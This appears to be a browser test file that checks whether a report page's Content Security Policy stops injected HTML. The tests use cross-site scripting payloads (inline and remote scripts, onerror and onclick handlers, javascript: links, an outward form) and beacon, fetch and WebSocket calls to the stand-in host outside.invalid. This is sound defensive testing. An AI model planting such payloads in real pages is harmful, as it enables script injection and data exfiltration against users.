"""The policy in a report's head: nothing but its own script runs, nothing leaves it, whatever got into the page."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from tests.browser.chromium import MARKS, PAGES
from tests.render.records import GROUPS

pytestmark = MARKS

INJECTED = """
<script>window.owned = 1</script>
<script src="https://outside.invalid/a.js"></script>
<img src="https://outside.invalid/a.png" onerror="window.owned = 1">
<link rel="stylesheet" href="https://outside.invalid/a.css">
<style>body { display: none }</style>
<p id="styled" style="color: rgb(1, 2, 3)">p</p>
<iframe src="https://outside.invalid/"></iframe>
<object data="https://outside.invalid/"></object>
<video src="https://outside.invalid/a.mp4" autoplay></video>
<base href="https://outside.invalid/">
<form id="sent" action="https://outside.invalid/" method="post"><button>send</button></form>
<a id="act" href="javascript:window.owned = 1">act</a>
<button id="press" onclick="window.owned = 1">press</button>
"""
REFUSED = {
    *("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "frame-src", "object-src"),
    *("media-src", "connect-src", "worker-src", "base-uri"),
}
REACHING_OUT = """async () => {
  navigator.sendBeacon('https://outside.invalid/beacon', 'x');
  const answers = (made, opened) => new Promise((done, fail) => { made[opened] = done; made.onerror = fail; });
  const tries = [() => fetch('https://outside.invalid/'),
    () => answers(new WebSocket('wss://outside.invalid/'), 'onopen'),
    () => answers(new Worker('data:text/javascript,postMessage(1)'), 'onmessage')];
  const done = [];
  for (const each of tries) try { await each(); done.push(String(each)); } catch {}
  return done; }"""
LISTENING = """window.refused = [];
document.addEventListener('securitypolicyviolation', event => window.refused.push(event.effectiveDirective));"""
SENDING = """() => new Promise(done => {
  document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective));
  document.querySelector('#sent button').click(); })"""


@pytest.mark.parametrize("name", ["comparison.html", "analysis.html"])
def test_policy_stops_whatever_got_into_the_page(browser: Any, tmp_path: Path, name: str) -> None:
    """Were a value ever written unescaped, it could still neither run nor reach the network."""
    file = tmp_path / name
    file.write_text(PAGES[name]().replace("</main>", f"{INJECTED}</main>"), encoding="utf-8")
    context = browser.new_context()
    asked: list[str] = []
    context.route("https://outside.invalid/**", lambda route: (asked.append(route.request.url), route.abort()))
    page = context.new_page()
    page.add_init_script(LISTENING)
    page.goto(file.as_uri())
    page.locator("#press").click()
    page.locator("#act").click()
    assert page.evaluate(REACHING_OUT) == []
    page.wait_for_function("window.refused.filter(each => each === 'connect-src').length >= 3")
    assert set(page.evaluate("window.refused")) >= REFUSED
    assert page.evaluate("window.owned") is None
    assert page.locator("#styled").evaluate("e => getComputedStyle(e).color") != "rgb(1, 2, 3)"
    assert page.locator("h1").is_visible()
    assert page.url == file.as_uri()
    assert page.evaluate("document.baseURI") == file.as_uri()
    assert asked == []
    # The page's own script is at work all the while.
    page.locator("a.evidence").first.click()
    assert page.locator("mark.lit").count()
    assert page.evaluate(SENDING) == "form-action"  # last: the browser waits for where this would lead
    assert asked == []
    context.close()


def test_without_the_policy_the_same_page_would_be_owned(browser: Any, tmp_path: Path) -> None:
    """The test above can fail: it is the policy that holds, not the browser."""
    file = tmp_path / "open.html"
    text = PAGES["comparison.html"]().replace("</main>", f"{INJECTED}</main>")
    file.write_text(re.sub(r"<meta http-equiv[^>]*>", "", text), encoding="utf-8")
    context = browser.new_context()
    asked: list[str] = []
    context.route("https://outside.invalid/**", lambda route: (asked.append(route.request.url), route.abort()))
    page = context.new_page()
    page.goto(file.as_uri())
    assert page.evaluate("window.owned") == 1
    assert len(asked) >= 3
    context.close()


def test_a_changed_script_does_not_run(browser: Any, tmp_path: Path) -> None:
    file = tmp_path / "changed.html"
    file.write_text(PAGES["comparison.html"]().replace('"use strict";', '"use strict"; '), encoding="utf-8")
    page = browser.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(file.as_uri())
    assert any("Content Security Policy" in line for line in said)
    assert page.locator(".fold:visible").count() == 0
    assert page.locator("tr.row:visible").count() == len(GROUPS)  # without its script, it is still read
    page.close()
